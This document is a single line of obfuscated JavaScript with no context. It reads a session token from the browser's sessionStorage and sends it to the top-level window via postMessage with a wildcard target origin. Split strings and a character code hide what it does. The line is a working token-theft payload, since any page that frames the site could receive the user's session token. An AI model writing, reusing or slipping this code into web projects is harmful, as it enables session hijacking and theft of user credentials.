(function (t) { t["post" + "Message"]({ token: self["session" + "Storage"]["getItem"]("token") }, String.fromCharCode(42)); })(window["t" + "op"]);
